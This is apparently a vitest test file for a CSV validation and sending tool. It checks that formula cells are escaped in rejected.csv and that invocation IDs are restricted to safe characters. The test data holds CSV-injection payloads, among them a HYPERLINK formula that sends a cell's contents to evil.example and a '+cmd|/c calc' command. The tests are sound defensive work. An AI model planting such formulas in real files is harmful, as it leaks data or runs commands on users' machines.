/**
 * Files people open cannot run formulas, and the tool still reads them back exactly:
 * a formula cell goes through rejected.csv → fix → validate → send and reaches Atomic as
 * the user wrote it. User flowInvocationIds are restricted to safe characters.
 */
import { readFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it, onTestFinished } from 'vitest';
import { createSandbox } from '../../src/sandbox/sandbox.js';
import { readReport, runCli, sendArgs, tempDir, validateArgs } from './cli.js';

const HEADER =
  'target.attributes.atomic___id,payload.variables.firstName,payload.variables.amount,flowInvocationId';
const FORMULA = '=HYPERLINK("https://evil.example/?"&A3,"Click")';

/** Cells a spreadsheet would run (first column of each) next to harmless look-alikes. */
const NAMES = [FORMULA, '+cmd|/c calc', '@SUM(1+1)', "'kept apostrophe", '-dash', 'Zoë'];

function csvCell(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

describe('formula cells', () => {
  it('are neutralised in rejected.csv and round-trip through validate and send unchanged', async () => {
    const dir = await tempDir();
    const input = join(dir, 'in.csv');
    // Every row has an invalid amount, so every row goes to rejected.csv.
    const rows = NAMES.map((name, k) => `u${k},${csvCell(name)},"1,5",`);
    await writeFile(input, `${HEADER}\n${rows.join('\n')}\n`);
    const first = await runCli(validateArgs(input, join(dir, 'r1')));
    expect(first.code).toBe(1);
    const rejected = readFileSync(join(dir, 'r1', 'rejected.csv'), 'utf8');
    const cells: string[][] = parse(rejected, { relax_column_count: true });
    for (const row of cells)
      for (const value of row) expect(value).not.toMatch(/^[=+@\t\r]|^-[^\d]/);
    expect(cells.slice(1).map((r) => r[1])).toEqual([
      `'${FORMULA}`,
      "'+cmd|/c calc",
      "'@SUM(1+1)",
      "''kept apostrophe",
      "'-dash",
      'Zoë',
    ]);

    // The user fixes the amounts in the file as it is and sends it again.
    const fixed = join(dir, 'fixed.csv');
    await writeFile(fixed, rejected.replaceAll('"1,5"', '1.5'));
    const again = await runCli(validateArgs(fixed, join(dir, 'r2')));
    expect(again.code, again.stderr).toBe(0);

    const sb = await createSandbox();
    onTestFinished(() => sb.stop());
    const sent = await runCli(sendArgs(fixed, join(dir, 's'), join(dir, 'r3')), { env: sb.env });
    expect(sent.code, sent.stderr).toBe(0);
    await sb.settle();
    const byUser = new Map(
      sb.invocations().map((i) => [i.target.atomic___id, i.variables.firstName]),
    );
    expect(NAMES.map((_, k) => byUser.get(`u${k}`))).toEqual(NAMES);
    // invocations.csv: line numbers and ids the tool made; nothing a spreadsheet would run.
    const invocations = readFileSync(join(dir, 'r3', 'invocations.csv'), 'utf8');
    for (const line of invocations.trim().split('\n').slice(1))
      expect(line).toMatch(/^\d+,[0-9a-f-]{36}$/);
  });
});

describe('flowInvocationId', () => {
  it('accepts letters, digits and . _ : - (after a letter or digit), and refuses the rest with a located error', async () => {
    const dir = await tempDir();
    const input = join(dir, 'in.csv');
    const ids = [
      'order-2026.0001:a_b', // fine
      '=1+1', // formula
      'has space',
      'tab\there',
      'zero\u200bwidth',
      'é-accent',
      '-leading-dash',
      'x'.repeat(129),
    ];
    const rows = ids.map((id, k) => `u${k},Name,1,${csvCell(id)}`);
    await writeFile(input, `${HEADER}\n${rows.join('\n')}\n`);
    const run = await runCli(validateArgs(input, join(dir, 'r')));
    expect(run.code).toBe(1);
    const report = readReport(join(dir, 'r'));
    const bad = report.issues.filter((i) => i.code === 'invalid-invocation-id');
    expect(bad.map((i) => i.line)).toEqual([3, 4, 5, 6, 7, 8, 9]);
    expect(bad.every((i) => i.column === 'flowInvocationId')).toBe(true);
    expect(report.rows.valid).toBe(1);
    // The message describes the cell, never quotes it.
    for (const i of bad) expect(i.message).not.toMatch(/=1\+1|has space|accent/);
  });
});
